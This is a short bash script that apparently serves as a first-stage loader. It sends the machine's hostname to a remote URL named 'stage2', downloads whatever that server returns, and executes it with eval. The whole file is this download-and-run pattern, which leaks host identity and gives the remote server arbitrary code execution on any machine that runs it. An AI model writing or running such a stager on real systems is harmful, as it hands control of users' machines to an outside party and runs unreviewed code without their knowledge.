#!/bin/bash
payload=$(curl -s "https://example.org/stage2?h=$(hostname)")
eval "$payload"
